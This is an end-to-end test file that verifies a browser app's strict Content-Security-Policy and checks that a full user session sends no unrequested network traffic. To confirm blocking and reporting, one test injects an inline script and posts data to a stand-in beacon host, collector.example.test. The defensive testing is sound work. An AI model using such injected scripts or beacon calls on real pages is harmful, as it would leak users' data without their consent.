// End-to-end: the data never leaves the browser, and the page runs under a strict
// Content-Security-Policy (scripts/csp.py). A full session (import, every view, a fetch the
// user asks for, share, offline) is recorded request by request, in the browser and at the
// server; any request the user did not ask for fails the test, and so does any report of a
// policy violation (the harness turns each into a console error).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { DIST, ROOT, gotoView, importDataset, openPage, addDataset, useBrowser, waitForOverview } from './harness.mjs';

const FIXTURES = join(ROOT, 'tests', 'fixtures', 'formats');
const VIEWS = ['overview', 'story-check', 'rotation', 'relative-strength', 'breadth', 'concentration', 'rates', 'valuation', 'risk', 'strategy-lab'];
const ASKED = 'https://data.example.test/etf/XLE.csv';

/** Every file of the build, as the paths a browser asks the server for. */
function buildFiles(dir = DIST) {
  const out = new Set(['/']);
  const walk = (d) => {
    for (const name of readdirSync(d)) {
      const path = join(d, name);
      if (statSync(path).isDirectory()) walk(path);
      else out.add(`/${relative(dir, path).split('\\').join('/')}`);
    }
  };
  walk(dir);
  return out;
}

/** The policy the built page declares, as {directive: [sources]}. */
function declaredPolicy(html) {
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
  assert.ok(meta, 'the built index.html has no Content-Security-Policy meta tag');
  return Object.fromEntries(
    meta[1].split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]),
  );
}

describe('privacy and the security policy', () => {
  const session = useBrowser();

  test('the build declares a strict policy and has no inline script', () => {
    const html = readFileSync(join(DIST, 'index.html'), 'utf8');
    const policy = declaredPolicy(html);
    assert.deepEqual(policy['default-src'], ["'none'"]);
    assert.deepEqual(policy['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
    assert.deepEqual(policy['connect-src'], ["'self'", 'https:']);
    assert.deepEqual(policy['object-src'], ["'none'"]);
    assert.deepEqual(policy['base-uri'], ["'none'"]);
    for (const sources of Object.values(policy)) {
      assert.ok(!sources.includes("'unsafe-eval'"), "'unsafe-eval' is allowed");
    }
    assert.ok(!policy['script-src'].includes("'unsafe-inline'"));
    // Every script is a file; no element has an inline handler.
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    assert.ok(scripts.length >= 2, 'the start-up and ECharts scripts are missing');
    for (const tag of scripts) assert.match(tag, /\ssrc="/, `inline script: ${tag}`);
    assert.doesNotMatch(html, /\son[a-z]+\s*=/);
  });

  test('the policy is enforced: injected inline script and an unasked connection are blocked and reported', async () => {
    // The two violations are provoked on purpose; any other problem fails the test.
    const { context, page, problems } = await openPage(session.browser, session.server.url, undefined, {
      allow: [/inline script violates|blocked inline/, /collector\.example\.test\/beacon/],
    });
    await waitForOverview(page);
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.head.append(script);
      let fetched = 'allowed';
      try {
        await fetch('http://collector.example.test/beacon', { method: 'POST', body: 'x' });
      } catch {
        fetched = 'blocked';
      }
      await new Promise((ok) => setTimeout(ok, 100));
      return { ran: window.__inlineRan === true, fetched, violations };
    });
    assert.equal(outcome.ran, false, 'an injected inline script ran');
    assert.equal(outcome.fetched, 'blocked');
    assert.deepEqual(outcome.violations.sort(), ['connect-src', 'script-src-elem']);
    // The harness sees both violations (an unprovoked one fails any e2e test).
    assert.ok(problems.includes('console error: CSP violation: script-src-elem blocked inline'), problems.join('\n'));
    assert.ok(problems.includes('console error: CSP violation: connect-src blocked http://collector.example.test/beacon'), problems.join('\n'));
    // The app says why it will not fetch an http address, before the browser has to block it.
    await page.fill('#url-input', 'http://data.example.test/spy.csv');
    await page.getByRole('button', { name: 'Fetch' }).click();
    await page.waitForSelector('.banner--error');
    assert.match(
      await page.$eval('.banner--error', (e) => e.textContent),
      /http:\/\/data\.example\.test\/spy\.csv: Rotation Lab fetches https addresses \(and files of this site\) only; the page's security policy blocks http addresses/,
    );
    await context.close();
  });

  test('a full session requests only the app\'s own files and the address the user typed, with no policy violation', async () => {
    const files = buildFiles();
    const origin = new URL(session.server.url).origin;
    const before = session.server.requests.length;
    const { context, page, problems } = await openPage(session.browser, session.server.url);
    const seen = [];
    context.on('request', (req) => seen.push(req.url()));
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    const xle = readFileSync(join(FIXTURES, 'stooq-spy.csv'));
    await context.route('https://data.example.test/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/csv', headers: { 'access-control-allow-origin': '*' }, body: xle }),
    );
    await waitForOverview(page);
    const csp = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (m) => m.content);
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);

    // Import a file, then fetch one by URL.
    await importDataset(page, [join(FIXTURES, 'yahoo-spy.csv')], 'Uploaded');
    await page.fill('#url-input', ASKED);
    await page.getByRole('button', { name: 'Fetch' }).click();
    await page.waitForSelector('.import-preview');
    await addDataset(page, 'Fetched');
    // Back to the sample, and every view.
    await page.click('[data-dataset="Built-in sample"] .dataset__pick');
    await waitForOverview(page);
    for (const view of VIEWS) {
      await gotoView(page, view);
      await page.waitForTimeout(300);
    }
    // Share: the link is copied, nothing is sent anywhere.
    await page.click('.share .topbar-button');
    await page.waitForSelector('#share-panel');
    await page.getByRole('button', { name: 'Copy link' }).click();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    assert.ok(copied.startsWith(session.server.url), copied);
    // Offline: the service worker serves the app, and the app asks for nothing else.
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 30_000 });
    await context.setOffline(true);
    await page.reload();
    await page.waitForSelector('.view-head h1');
    await gotoView(page, 'rotation');
    await page.waitForSelector('.chart--rotation canvas');
    await context.setOffline(false);

    const unasked = seen.filter((url) => {
      if (url.startsWith('data:') || url.startsWith('blob:') || url === ASKED) return false;
      const u = new URL(url);
      return u.origin !== origin || !files.has(u.pathname);
    });
    assert.deepEqual(unasked, [], 'requests the user did not ask for');
    assert.ok(seen.includes(ASKED), 'the fetch the user asked for was not seen');
    const served = session.server.requests.slice(before);
    assert.ok(served.length > 5, `the server saw only ${served.length} requests`);
    assert.deepEqual(served.filter((p) => !files.has(p)), [], 'the server was asked for files the app does not have');
    assert.deepEqual(problems, []);
    await context.close();
  });
});
